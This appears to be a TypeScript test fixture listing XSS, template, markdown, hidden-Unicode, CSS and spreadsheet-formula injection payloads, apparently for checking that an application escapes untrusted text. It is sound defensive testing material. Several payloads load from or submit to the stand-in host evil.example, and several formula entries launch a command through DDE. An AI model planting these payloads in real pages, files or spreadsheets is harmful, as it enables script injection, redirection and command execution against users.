/** A text that does something where it is taken for markup, a link, a template or a formula; shown as text it is harmless. */
export interface Payload {
  kind: string;
  text: string;
}

/** Texts are composed (NFC), as imports make them. */
const of = (kind: string, ...texts: string[]): Payload[] => texts.map((text) => ({ kind, text: text.normalize("NFC") }));

/** Whatever runs, opens a dialog, sets window.pwned or asks evil.example. */
export const payloads: Payload[] = [
  ...of(
    "script",
    "<script>window.pwned=1;alert(1)</script>",
    "</title><script>alert(2)</script>",
    '"><script src="https://evil.example/x.js"></script>',
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "</script><script>alert(4)//",
    "<!--<script>--><script>alert(5)</script>",
  ),
  ...of(
    "handler",
    '<img src=x onerror="window.pwned=1;alert(6)">',
    "<body onload=alert(7)>",
    "<details open ontoggle=alert(8)>x</details>",
    "<input autofocus onfocus=alert(9)>",
    "' onmouseover='alert(10)",
    '" autofocus onfocus="alert(11)" x="',
    "<video><source onerror=alert(12)></video>",
    "<marquee onstart=alert(13)>x</marquee>",
  ),
  ...of(
    "svg",
    "<svg onload=alert(14)>",
    "<svg><script>alert(15)</script></svg>",
    "<svg><animate onbegin=alert(16) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(17)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src onerror=alert(18)>",
  ),
  ...of(
    "address",
    "javascript:alert(19)",
    '<a href="javascript:alert(20)">open me</a>',
    "data:text/html,<script>alert(21)</script>",
    '<iframe src="javascript:alert(22)"></iframe>',
    '<iframe srcdoc="<script>alert(23)</script>"></iframe>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><button>go</button></form>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=https://evil.example/x></object>",
  ),
  ...of(
    "template",
    "{{constructor.constructor('alert(24)')()}}",
    "${alert(25)}",
    "{{count}} {{name}} $t(shell.product)",
    "<%= alert(26) %> #{alert(27)}",
    "%s %d %n {0}",
  ),
  ...of("markdown", "[open](javascript:alert(28))", "![x](https://evil.example/pixel.png)", "```html\n<img src=x onerror=alert(29)>\n```"),
  ...of(
    "hidden",
    "user\u202Egnp.exe\u202C",
    "zero\u200Bwidth\u200D\u2060joined\uFEFF",
    "\u2066<b>isolated</b>\u2069",
    "a\u0301\u0302\u0303\u0304\u0305 Z\u0335\u0336\u0337",
  ),
  ...of(
    "formula",
    '=HYPERLINK("https://evil.example","click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
  ),
  ...of(
    "style",
    "<style>*{display:none}</style>",
    "</style><style>@import 'https://evil.example/x.css'</style>",
    '<div style="background:url(https://evil.example/x)">x</div>',
  ),
];
